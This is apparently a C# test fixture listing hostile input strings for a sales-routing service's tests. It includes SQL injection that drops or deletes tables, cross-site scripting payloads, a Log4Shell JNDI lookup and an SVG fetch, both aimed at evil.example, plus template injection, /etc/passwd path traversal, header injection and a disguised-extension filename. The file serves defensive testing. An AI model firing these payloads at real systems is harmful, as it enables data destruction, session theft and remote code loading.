namespace SalesOps.Routing.Host.Tests.Hostile;

/// <summary>Text that would do harm if a layer executed, concatenated or rendered it instead of storing it.</summary>
internal static class HostileText
{
    public static IReadOnlyList<string> Samples { get; } =
    [
        "'; DROP TABLE leads; --",
        "Robert'); DELETE FROM decisions; --",
        "\" OR \"1\"=\"1",
        "1; UPDATE rotation SET last_rep_id = 'x' WHERE 1=1",
        "' UNION SELECT payload FROM leads --",
        "<script>alert('x')</script>",
        "<img src=x onerror=alert(1)>",
        "\"><svg/onload=fetch('//evil.example')>",
        "javascript:alert(document.cookie)",
        "{{7*7}} ${7*7} <%= 7*7 %>",
        "${jndi:ldap://evil.example/a}",
        "../../../../etc/passwd",
        "%00%0d%0aSet-Cookie: x=y",
        "\u202Egnp.exe",
        "Zoë Ñúñez 山田 😀",
    ];
}
